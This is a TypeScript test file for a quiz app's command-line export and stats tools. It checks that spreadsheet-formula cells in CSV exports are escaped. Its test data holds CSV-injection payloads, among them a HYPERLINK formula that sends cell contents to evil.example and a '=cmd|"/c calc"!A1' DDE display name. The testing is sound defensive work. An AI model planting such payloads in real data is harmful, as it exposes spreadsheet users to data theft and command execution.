import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { runCli } from '../../src/adapters/cli/run.ts';
import { startQuiz, submitAnswer, type AppContext } from '../../src/app/index.ts';
import { FIRST_CARD_FILE, shippedCard } from '../helpers/cards.ts';
import { memoryIo } from '../helpers/memoryIo.ts';
import { startDatabaseTestApp, type DatabaseTestApp } from '../support/testApp.ts';
import { grader } from '../../src/main/appContext.ts';

const first = shippedCard(FIRST_CARD_FILE);
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '-1+1',
  '@SUM(A1:A9)',
  '+1',
  '\tx',
  'a,"b"\r\nc',
];
const SECRET = 'a-secret-key-for-tests-only';
let opened: DatabaseTestApp;
let ctx: AppContext;

beforeAll(async () => {
  opened = await startDatabaseTestApp([first], { grade: grader });
  ctx = opened.ctx;
  const started = await startQuiz(ctx, {
    user: { id: 'opener', displayName: 'Opener' },
    guildId: 'g',
    channelId: 'ch',
    cardId: first.id,
  });
  if (started.kind !== 'started') throw new Error(started.kind);
  const hostile = { id: '123456789012345678', displayName: '=cmd|"/c calc"!A1' };
  const answers = [
    ...HOSTILE.map((input) => ({ user: hostile, input })),
    { user: { id: '223456789012345678', displayName: 'Bea' }, input: '(y - yhat) * x' },
  ];
  for (const [n, { user, input }] of answers.entries()) {
    opened.clock.advance(1000);
    await submitAnswer(ctx, { guildId: 'g', channelId: 'ch', externalId: `e:${n}`, user, input });
  }
});
afterAll(async () => {
  await opened?.close();
});

async function cli(args: string[], env: Record<string, string> = {}) {
  const m = memoryIo('', env);
  const code = await runCli(args, m.io, { openApp: async () => ({ app: ctx, close: async () => {} }) });
  return { code, stdout: m.stdout(), stderr: m.stderr() };
}

describe('GIVEN answers and names written to attack a spreadsheet', () => {
  it('THEN the attempts CSV reads back with a CSV parser, every formula cell escaped with a quote mark', async () => {
    const r = await cli(['export', 'attempts', '--guild', 'g']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    // The columns, in its order.
    expect(Object.keys(rows[0] ?? {}).join(', ')).toBe(
      'createdAt, guildId, channelId, userId, displayName, cardId, part, verdict, mistake, points, signature, input',
    );
    expect(rows.map((row) => row['input'])).toEqual([
      ...HOSTILE.map((input) => (/^[=+\-@\t\r]/.test(input) ? `'${input}` : input)),
      '(y - yhat) * x',
    ]);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows[0]).toMatchObject({ displayName: `'=cmd|"/c calc"!A1`, guildId: 'g', cardId: first.id });
    expect(rows.at(-1)).toMatchObject({
      displayName: 'Bea',
      verdict: 'correct',
      signature: expect.stringMatching(/^[0-9a-f]{16}$/),
    });
  });

  it('THEN JSON Lines keep the raw input; grades have one row per user', async () => {
    const jsonl = await cli(['export', 'attempts', '--guild', 'g', '--format', 'jsonl']);
    const lines = jsonl.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines.map((line) => line['input'])).toEqual([...HOSTILE, '(y - yhat) * x']);
    const grades = parse((await cli(['export', 'grades', '--guild', 'g'])).stdout, { columns: true });
    expect(grades).toMatchObject([
      { userId: '123456789012345678', partsSolved: '0', points: '0' },
      { userId: '223456789012345678', displayName: 'Bea', partsSolved: '1', attempts: '1' },
    ]);
  });

  it('THEN --anonymize needs the secret, and with it no id or name is left', async () => {
    const refused = await cli(['export', 'grades', '--anonymize']);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/GRADQUIZ_EXPORT_SECRET/);
    const r = await cli(['export', 'attempts', '--anonymize'], { GRADQUIZ_EXPORT_SECRET: SECRET });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(/123456789012345678|Bea|calc/);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(new Set(rows.map((row) => row['userId'])).size).toBe(2);
    expect(
      rows.every((row) => /^[0-9a-f]{16}$/.test(row['userId'] ?? '') && row['displayName'] === row['userId']),
    ).toBe(true);
  });

  it('THEN gradquiz stats prints a table of the parts and the reasons of the invalid answers', async () => {
    const r = await cli(['stats', '--guild', 'g']);
    expect(r.code).toBe(0);
    const lines = r.stdout.split('\n');
    expect(lines[0]).toBe('Server g, all time');
    expect(lines[2]).toMatch(
      /^card\s+part\s+attempts\s+users\s+solved\s+rate\s+median\s+hints\/solve\s+give-ups\s+invalid$/,
    );
    expect(lines[3]).toMatch(new RegExp(`^${first.id}\\s+1\\s+4\\s+2\\s+1\\s+50%\\s+1\\s+0\\s+0\\s+3$`));
    expect(r.stdout).toMatch(/ invalid {2}\S/);
  });

  it('THEN bad options are refused with a reason', async () => {
    expect((await cli(['export', 'attempts', '--format', 'xlsx'])).stderr).toMatch(/--format/);
    expect((await cli(['export', 'attempts', '--since', '2026-02-30'])).stderr).toMatch(/not a date/);
    expect((await cli(['stats', '--tz', 'Mars/Olympus'])).stderr).toMatch(/--tz/);
    expect((await cli(['export', 'everything'])).code).toBe(2);
  });
});
